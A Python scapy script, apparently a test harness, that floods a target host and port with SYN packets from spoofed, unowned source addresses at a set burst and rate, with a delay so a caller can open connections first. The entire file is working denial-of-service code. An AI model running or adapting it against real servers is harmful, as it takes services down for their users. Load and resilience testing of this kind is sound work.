#!/usr/bin/python3
"""A slow SYN flood from absent hosts on the subnet (Debian's python3-scapy; run it with /usr/bin/python3).

  spoofed_syns.py IFACE DST PORT BURST RATE SECONDS [DELAY]

Sends BURST SYNs at once, then RATE per second for SECONDS, each from a source in 198.18.0.100-249 that
no host owns (so the server's SYN-ACK waits on an ARP request nobody answers) and a random source port.
Prints "ready" once set up (scapy loaded, the server's MAC known), waits DELAY s (0 by default) so a caller can
open its own connections just before the burst, then floods; prints "sent=N" at the end.
"""
import random
import sys
import time

from scapy.all import IP, TCP, Ether, conf, getmacbyip  # noqa: E402

conf.verb = 0


def main():
    iface, dst, port, burst, rate, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4]), float(sys.argv[5]), float(sys.argv[6])
    delay = float(sys.argv[7]) if len(sys.argv) > 7 else 0.0
    rng = random.Random(20261202)
    mac = getmacbyip(dst)
    if mac is None:
        sys.exit(f"no ARP answer from {dst}")

    def syn(i):
        src = f"198.18.0.{100 + i % 150}"
        return Ether(dst=mac) / IP(src=src, dst=dst) / TCP(sport=rng.randint(1024, 65535), dport=port, flags="S", seq=rng.getrandbits(32))

    first = [syn(i) for i in range(burst)]
    link = conf.L2socket(iface=iface)  # one socket for all: sendp() would open one per call and miss the rate
    print("ready", flush=True)
    time.sleep(delay)
    for frame in first:
        link.send(frame)
    sent = burst
    start = time.monotonic()
    while time.monotonic() - start < seconds:
        link.send(syn(sent))
        sent += 1
        # Paced on the schedule, not on the previous send: RATE a second however long a send takes.
        time.sleep(max(0.0, start + (sent - burst) / rate - time.monotonic()))
    link.close()
    print(f"sent={sent}", flush=True)


if __name__ == "__main__":
    main()
